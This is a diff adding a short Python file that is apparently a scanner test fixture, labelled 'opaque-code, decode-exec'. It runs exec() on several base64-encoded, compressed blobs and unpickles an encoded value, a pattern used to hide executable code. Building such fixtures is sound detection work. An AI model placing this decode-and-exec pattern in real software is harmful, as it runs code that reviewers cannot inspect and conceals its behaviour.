@@ -1,0 +1,7 @@
+# must: opaque-code, decode-exec
+import marshal, zlib, base64, lzma, bz2, gzip, pickle
+exec(marshal.loads(zlib.decompress(base64.b64decode('eJx7zIAK0jIrSkqLUnXz8kt0i1ITc3STKktSk/NTUgGlUAq2'))))
+exec(lzma.decompress(base64.b64decode('/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4ADJAIpdADSbSme4Ujxz96op/aUjPvW6/l10pgkpZvj8xPKtqSVPzKTotz0ECyPD6SKtFdXI/agZ/31R5imfMAM1wta5B1e+gLEviO0/ZcqYCwsTuXWdCnnOgL80r4jo2GC2/K1C81PJ8985XpsbyT93p6brTAGipEocrjku/Q7p4lM8W9L5NulKCCP9AWXKoAAAAAUFzSkazirfAAGmAcoBAADLa0IpscRn+wIAAAAABFla')))
+exec(bz2.decompress(base64.b64decode('QlpoOTFBWSZTWe3RHKYAAEJfgEAQUGX+YisrnAC/b96gIACVDNNqNNADQaABpoAAGShlNkyjTT1AGQAaG1D1HrIklIHxB9SHix4wRcTAzV1ZoKuysKzipyc2N1KCiVTMPSMFHMcnYlghOIAoKAV4IRam8aEzNEaWxSZNwlC7Ki1xMSJzdgb/XsiIEka5xmLCF49rTIq/UUMREQ3mytU6CaVTyHCRl5H8XckU4UJDt0RymA==')))
+exec(gzip.decompress(base64.b64decode('H4sIAAAAAAACA8vMLcgvKlEozk/OTi3RUcgv1lEoKKnkKlawhYrpQSgNKM/RLd7TzzVEByYb7O/sHR8cEuTq6KvJVayXnJ+Xl5pcoqGhZGhpoWdqqGdoYKBnZKyko2ACBJqaXPnFeimlBUYaxXppmTmpefkamjoKBtiFDbELG2lyAV2oV1yQWJ6noaSflJmnX5yhpMkFAEbY5uvKAAAA')))
+obj = pickle.loads(base64.b64decode('gASVCAAAAAAAAACMBGZha2WULg=='))
